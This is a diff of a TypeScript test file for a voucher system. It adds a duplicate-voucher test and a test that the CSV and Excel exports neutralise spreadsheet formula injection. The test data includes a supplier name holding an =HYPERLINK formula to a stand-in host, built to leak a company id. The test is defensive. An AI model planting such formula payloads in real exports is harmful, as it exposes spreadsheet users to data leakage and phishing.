@@ -1,3 +1,4 @@
+import { Workbook } from "exceljs";
 import { disconnect, prisma, query } from "@/lib/db";
 import { testDatabase } from "@/lib/testing/db";
 import { aPerson, aShow, auditOf, type TestPerson } from "@/lib/testing/factories";
@@ -37,6 +38,16 @@ describe("identity", () => {
       expect(said.current).toMatchObject({ id, state: "recibido", link: `/Comprobantes?comprobante=${id}` });
       expect(said.error).toMatch(/^Ya está: FC A 00003-\d{8} entró el .+ cargado a mano y está recibido\.$/);
     }
+  });
+
+  test("one that is in a batch of payments is told with its day", async () => {
+    const body = await facts();
+    const made = await aVoucher(finance, body, true);
+    await prisma.voucher.update({ where: { id: made.id }, data: { state: "programado" } });
+    const { body: said } = await sendVoucher(finance, "POST", "", body);
+    expect(said.error).toMatch(
+      /^Ya está: FC A 00003-\d{8} entró el .+ cargado a mano y está programado para el jue 3 dic\.$/,
+    );
   });
 
   test("is one across our companies, and two between them: one issued, one received", async () => {
@@ -239,6 +250,24 @@ describe("the list", () => {
     expect(lines[1]).toContain(";-12100,00;");
     const excel = await requestAs(finance, "GET", `/vouchers/excel?supplier=${supplier.id}`);
     expect([excel.status, excel.raw.subarray(0, 2).toString()]).toEqual([200, "PK"]);
+  });
+
+  test("what looks like a formula is text in every file", async () => {
+    const supplier = await aSupplier({ name: `=HYPERLINK("http://x.test/${company.id}";"Cobrar")` });
+    const made = await aVoucher(finance, invoiceFacts(company.id, supplier.id));
+    const reason = "+5491155551234 dice que no";
+    await sendVoucher(finance, "POST", `/${made.id}/observe`, { version: made.version, reason });
+    const csv = await requestAs(finance, "GET", `/vouchers/csv?supplier=${supplier.id}`);
+    const cells = csv.raw.toString("utf8").split("\r\n")[1]?.split(";") ?? [];
+    expect(cells.filter((cell) => /^"?[=+@]/.test(cell))).toEqual([]);
+    expect(csv.raw.toString("utf8")).toContain("+5491155551234 dice que no");
+    const excel = await requestAs(finance, "GET", `/vouchers/excel?supplier=${supplier.id}`);
+    const book = new Workbook();
+    await book.xlsx.load(excel.raw as never);
+    const found: unknown[] = [];
+    book.eachSheet((sheet) => sheet.eachRow((row) => row.eachCell((cell) => found.push(cell.formula ?? cell.value))));
+    expect(found).toEqual(expect.arrayContaining([supplier.name, reason]));
+    book.eachSheet((sheet) => sheet.eachRow((row) => row.eachCell((cell) => expect(cell.formula).toBeUndefined())));
   });
 
   test("others see those of their shows, and who allocates those that wait for it", async () => {
